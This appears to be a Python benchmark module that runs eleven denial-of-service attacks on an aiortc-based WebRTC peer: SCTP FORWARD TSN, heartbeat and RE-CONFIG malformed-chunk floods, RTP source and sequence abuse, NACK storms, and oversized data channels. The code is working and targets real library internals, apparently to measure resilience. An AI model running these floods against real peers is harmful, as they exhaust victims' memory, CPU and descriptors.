"""What one end of a connection can do to the other end: SCTP, RTP, RTCP and data channels.

The attacker is a `MeteredPeer` whose private parts are used to send what no honest end sends.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from struct import pack
from typing import Any

from aiortc.mediastreams import MediaStreamError
from aiortc.rtp import RtcpRtpfbPacket, RtpPacket
from google_crc32c import value as crc32c

from benchmarks.attacks.stage import CHANNEL, Attack, Stage
from metered_realtime import DataChannel, DataChannelOpened, MediaStream, PeerJoined, Track
from metered_realtime.media.sources.testsource import PatternTrack

FORWARD_TSN, SACK, HEARTBEAT, RECONFIG = 192, 3, 4, 130
FIRST, LAST, UNORDERED = 2, 1, 4


class Attacker:
    """A peer with a connection to the victim: `sctp` and `dtls` are its transports."""

    def __init__(self, peer: Any, to_victim: Any, from_attacker: Any) -> None:
        self.peer, self.to_victim, self.from_attacker = peer, to_victim, from_attacker

    @property
    def sctp(self) -> Any:
        return self.to_victim.pc.sctp

    @property
    def dtls(self) -> Any:
        return self.sctp.transport

    def packet(self, *chunks: bytes) -> bytes:
        """Return an SCTP packet for the victim."""
        sctp = self.sctp
        head = pack("!HHL", sctp._local_port, sctp._remote_port, sctp._remote_verification_tag)
        body = b"".join(chunks)
        return head + pack("<L", crc32c(head + bytes(4) + body)) + body

    def next_tsn(self, count: int = 1) -> int:
        """Take TSNs from the association, so that the victim takes what has them for new."""
        outbound = self.sctp._outbound
        first = outbound.next_tsn
        outbound.next_tsn += count
        outbound.sacked = outbound.skipped = outbound.next_tsn - 1
        return int(first)


def chunk(kind: int, body: bytes, flags: int = 0) -> bytes:
    return pack("!BBH", kind, flags, 4 + len(body)) + body + bytes(-len(body) % 4)


def data(tsn: int, stream: int, flags: int, content: bytes = b"x", sequence: int = 0) -> bytes:
    return chunk(0, pack("!LHHL", tsn & 0xFFFFFFFF, stream, sequence, 51) + content, flags)


@asynccontextmanager
async def attacker(stage: Stage, *, media: str = "") -> AsyncIterator[Attacker]:
    """Connect one more peer to the victim. It sends video, or gets some, if it is told to."""
    peer = stage.peer("attacker")
    joined: asyncio.Future[Any] = asyncio.get_running_loop().create_future()
    seen: asyncio.Future[Any] = asyncio.get_running_loop().create_future()
    flows = asyncio.Event()

    @peer.on(PeerJoined)
    def _(event: PeerJoined) -> None:
        if event.peer.id == "victim":
            event.peer.on(Track, lambda _: flows.set())
            joined.set_result(event.peer)

    @stage.victim.on(PeerJoined)
    def _(event: PeerJoined) -> None:
        if event.peer.id == "attacker":
            event.peer.on(Track, lambda _: flows.set())
            event.peer.on(DataChannelOpened, lambda _: None)
            seen.set_result(event.peer)

    await peer.join(CHANNEL)
    to_victim, from_attacker = await asyncio.wait_for(asyncio.gather(joined, seen), 20)
    channel = DataChannel(to_victim.create_data_channel("first"))
    await channel.wait_open()
    if media:
        sender = peer if media == "sends" else stage.victim
        sender.add_stream(MediaStream([PatternTrack(width=320, height=240)]))
        await asyncio.wait_for(flows.wait(), 20)
        await asyncio.sleep(1.0)
    try:
        yield Attacker(peer, to_victim, from_attacker)
    finally:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(peer.close(), 5)


async def send_all(one: Attacker, packets: list[bytes], *, at_once: int = 16) -> None:
    for start in range(0, len(packets), at_once):
        for packet in packets[start : start + at_once]:
            with contextlib.suppress(ConnectionError):
                one.dtls.send_now(packet)
        await asyncio.sleep(0.001)


def spread(one: Attacker, count: int, make: Callable[[int, int], bytes], each: int = 50) -> list[bytes]:
    """Return packets with so many DATA chunks, `each` in one: `make` is given a TSN and a number."""
    first = one.next_tsn(count)
    chunks = [make(first + number, number) for number in range(count)]
    return [one.packet(*chunks[start : start + each]) for start in range(0, count, each)]


# --- SCTP


async def forward_tsn_after_many_streams(stage: Stage) -> None:
    """65,536 one-byte messages on as many streams, then four packets of FORWARD TSN."""
    async with attacker(stage) as one:
        await send_all(one, spread(one, 65_535, lambda tsn, number: data(tsn, number, FIRST | LAST)))
        await asyncio.sleep(1.0)
        packets = []
        for _ in range(4):
            first = one.next_tsn(100)
            steps = [pack("!L", (first + step) & 0xFFFFFFFF) for step in range(100)]
            packets.append(one.packet(*(chunk(FORWARD_TSN, step) for step in steps)))
        async with stage.watch():
            await send_all(one, packets)
            await asyncio.sleep(0.5)


async def a_parameter_without_length(stage: Stage) -> None:
    """One RE-CONFIG chunk whose parameter has the length 0, after which aiortc does not stop reading it."""
    async with attacker(stage) as one, stage.watch():
        await send_all(one, [one.packet(chunk(RECONFIG, pack("!HH", 13, 0) + bytes(8)))])
        await asyncio.sleep(0.5)


async def heartbeats(stage: Stage) -> None:
    """50 packets of 290 empty HEARTBEAT chunks, each of which is answered."""
    async with attacker(stage) as one:
        packet = one.packet(*[chunk(HEARTBEAT, b"")] * 280)
        async with stage.watch():
            await send_all(one, [packet] * 50)
            await asyncio.sleep(0.5)


async def messages_without_end(stage: Stage) -> None:
    """400,000 messages of which one byte comes and no end."""
    async with attacker(stage) as one:
        packets = spread(one, 400_000, lambda tsn, number: data(tsn, number & 0x3FFF, FIRST | UNORDERED))
        async with stage.watch():
            await send_all(one, packets, at_once=32)
            await asyncio.sleep(0.5)


# --- RTP and RTCP


def rtp(payload_type: int, source: int, number: int, payload: bytes = b"\x10" * 20) -> bytes:
    return RtpPacket(payload_type, 0, number & 0xFFFF, number * 3_000 & 0xFFFFFFFF, source, payload).serialize()


def payload_type_of(one: Attacker) -> int:
    receivers = [it.receiver for it in one.from_attacker.pc.getTransceivers() if it.kind == "video"]
    return int(next(iter(receivers[0]._RTCRtpReceiver__codecs)))


async def sixty_sources(stage: Stage) -> None:
    """60 sources in one section; then the victim closes, which counts descriptors that stay."""
    async with attacker(stage, media="sends") as one:
        kind = payload_type_of(one)
        pc = one.from_attacker.pc
        async with stage.watch():
            for source in range(1, 61):
                await one.dtls._send_rtp(rtp(kind, source, 1))
            await asyncio.sleep(2.0)
            await asyncio.wait_for(one.from_attacker._close(), 10)
        left = pc.sctp.transport.transport._connection._protocols
        stage.cost.descriptors = len(left)


async def twenty_thousand_sources(stage: Stage) -> None:
    """Packets of 20,000 sources in one section: state of each, in aiortc and in SRTP."""
    async with attacker(stage, media="sends") as one:
        kind = payload_type_of(one)
        async with stage.watch():
            for source in range(1, 20_001):
                await one.dtls._send_rtp(rtp(kind, source, 1))
                if source % 20 == 0:
                    await asyncio.sleep(0)
            await asyncio.sleep(1.0)


async def steps_in_sequence_numbers(stage: Stage) -> None:
    """300 packets of video that is read, each 20,000 numbers after the one before."""
    async with attacker(stage, media="sends") as one:
        (incoming,) = one.from_attacker.streams[0].get_tracks()
        reading = asyncio.ensure_future(_read(incoming))
        await asyncio.sleep(0.5)
        (sender,) = [it.sender for it in one.to_victim.pc.getTransceivers() if it.kind == "video"]
        kind = payload_type_of(one)
        async with stage.watch():
            first = sender._next_encoded_frame._sequence_number
            for number in range(1, 301):
                await one.dtls._send_rtp(rtp(kind, sender._ssrc, first + number * 20_000))
            await asyncio.sleep(1.0)
        reading.cancel()


async def _read(track: Any) -> None:
    with contextlib.suppress(MediaStreamError):
        while True:
            await track.recv()


async def repeated_requests(stage: Stage) -> None:
    """190 packets that ask for one lost packet 4,930 times each. `memory` is what the victim sends."""
    async with attacker(stage, media="gets") as one:
        transceivers = one.from_attacker.pc.getTransceivers()
        (sender,) = [it.sender for it in transceivers if it.kind == "video"]
        request = RtcpRtpfbPacket(fmt=1, ssrc=1, media_ssrc=sender._ssrc)
        victim = one.from_attacker
        before = victim.stats().bytes_sent
        async with stage.watch():
            for _ in range(190):
                number = (sender._next_encoded_frame._sequence_number - 1) & 0xFFFF
                entries = pack("!HH", (number - 16) & 0xFFFF, 0xFFFF) * 290
                head, words = bytes(request), 2 + len(entries) // 4
                await one.dtls._send_rtp(head[:2] + pack("!H", words) + head[4:] + entries)
                await asyncio.sleep(0.01)
        stage.cost.memory = victim.stats().bytes_sent - before


async def a_datagram_of_a_stranger(stage: Stage) -> None:
    """A datagram of 1,600 bytes from a socket that has no part in the connection. The gap shows whether it goes on."""
    pc = stage.victim.remote_peers[0].pc
    address = pc.sctp.transport.transport._connection._nominated[1].local_addr
    async with stage.watch():
        with socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET, socket.SOCK_DGRAM) as stranger:
            stranger.sendto(b"\x80\x60" + bytes(1_600), address[:2])
        await asyncio.sleep(3.0)


# --- data channels


async def unheard_channels(stage: Stage) -> None:
    """12 channels with 20 MB each that nobody listens to."""
    async with attacker(stage) as one:
        channels = [DataChannel(one.to_victim.create_data_channel(f"{number}")) for number in range(12)]
        await asyncio.gather(*(it.wait_open() for it in channels))
        async with stage.watch():
            for _ in range(320):
                for channel in channels:
                    with contextlib.suppress(Exception):
                        await channel.send(b"x" * 65_000)
            await asyncio.sleep(0.5)


async def channels_with_long_names(stage: Stage) -> None:
    """1,000 channels with labels of 60 KB, opened by hand so that they cost the attacker nothing."""
    async with attacker(stage) as one, stage.watch():
        for number in range(1_000):
            label = f"{number:05}".encode() * 12_000
            opening = pack("!BBHLHH", 3, 0, 0, 0, len(label), 0) + label
            one.sctp._queue_chunks(1_001 + 2 * number, 50, opening)
            one.sctp._send_all()
            while one.sctp._outbound.queue or one.sctp._outbound.flight > 100_000:  # noqa: ASYNC110 - no event tells
                await asyncio.sleep(0.001)
        await asyncio.sleep(1.0)


ATTACKS: dict[str, Attack] = {
    "forward_tsn": forward_tsn_after_many_streams,
    "sctp_parameter": a_parameter_without_length,
    "sctp_heartbeats": heartbeats,
    "sctp_half_messages": messages_without_end,
    "rtp_60_sources": sixty_sources,
    "rtp_20000_sources": twenty_thousand_sources,
    "rtp_sequence_steps": steps_in_sequence_numbers,
    "nack_repeated": repeated_requests,
    "stranger_datagram": a_datagram_of_a_stranger,
    "unheard_channels": unheard_channels,
    "channel_names": channels_with_long_names,
}
